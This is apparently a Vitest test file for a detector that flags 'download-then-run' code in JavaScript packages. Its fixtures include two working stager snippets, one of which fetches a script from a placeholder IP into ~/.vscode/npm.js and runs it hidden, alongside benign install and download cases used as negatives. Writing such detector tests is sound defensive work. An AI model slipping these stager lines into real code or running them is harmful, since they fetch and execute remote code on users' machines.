import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './download-then-run.ts';

describe('download-then-run', () => {
  it('catches stagers', async () => {
    const lures = [
      `const axios = require('axios'), fs = require('fs'), { exec } = require('child_process'), path = require('path'), os = require('os'); const p = path.join(os.homedir(), '.vscode', 'npm.js'); axios.get('http://192.0.2.7:1224/client/1').then(r => { fs.writeFileSync(p, r.data); exec('node ' + p, { windowsHide: true }); });`,
      `const fs = require('fs'); async function f() { const t = await (await fetch('https://fixture.invalid/x.js')).text(); fs.writeFileSync('/tmp/fixture.js', t); require('/tmp/fixture.js'); } f();`,
    ];
    for (const lure of lures)
      expect(
        (await hitsOf(detector, { 'a.js': lure })).map((hit) => hit.weight),
        lure,
      ).toEqual(['proof']);
  });

  it('a native program of the project’s own is not yet proof', async () => {
    const native = `const fs = require('fs'), cp = require('child_process'); async function f() { const t = await (await fetch('https://dl.example/server-linux')).arrayBuffer(); fs.writeFileSync('/opt/x/server', Buffer.from(t)); fs.chmodSync('/opt/x/server', 0o755); cp.spawn('/opt/x/server', ['--stdio']); } f();`;
    expect((await hitsOf(detector, { 'a.js': native })).map((hit) => hit.weight)).toEqual(['strong']);
  });

  it('twin: a release from its own host, a download that is only kept', async () => {
    const install = `const https = require('https'), fs = require('fs'), { execFileSync } = require('child_process'); https.get('https://registry.npmjs.org/x/-/x.tgz', res => { const c = []; res.on('data', d => c.push(d)); res.on('end', () => { fs.writeFileSync('bin/x', Buffer.concat(c)); execFileSync('bin/x', ['--version']); }); });`;
    expect((await hitsOf(detector, { 'install.js': install })).every((hit) => hit.weight === 'weak')).toBe(true);
    const keep = `const fs = require('fs'); fetch('https://api.example/data').then(r => r.text()).then(t => fs.writeFileSync('data.json', t)); require('child_process').exec('ls');`;
    expect(await hitsOf(detector, { 'a.js': keep })).toEqual([]);
  });
});
